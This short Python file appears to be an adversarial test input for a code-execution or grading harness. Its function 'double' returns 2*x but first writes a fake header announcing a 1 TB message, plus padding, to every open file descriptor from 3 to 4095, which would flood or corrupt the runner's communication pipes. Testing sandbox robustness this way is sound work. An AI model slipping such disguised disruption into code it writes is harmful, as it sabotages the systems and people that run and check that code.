# Announces a message of a thousand gigabytes, and begins to send it.
# %% double
import contextlib
import os
import struct


def double(x):
    for number in range(3, 4096):
        with contextlib.suppress(OSError):
            os.write(number, struct.pack("<QIQ", 1, 10, 1 << 40) + b"[1,2,3,45]" + bytes(1 << 16))
    return 2 * x
